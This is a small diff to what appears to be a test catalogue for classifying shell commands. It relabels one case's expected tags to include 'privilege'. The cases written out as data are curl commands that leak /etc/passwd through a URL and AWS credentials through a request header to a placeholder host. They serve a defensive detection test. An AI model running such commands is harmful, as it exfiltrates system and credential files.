@@ -450,7 +450,7 @@ CATALOGUE = [
     _case('curl "https://x/?d=$(cat /etc/passwd)"', "read export", "curl", "curl-url-leak"),
     _case(
         'curl -H "X: $(cat ~/.aws/credentials)" https://x',
-        "read export",
+        "read export privilege",
         "curl",
         "curl-header-leak",
     ),
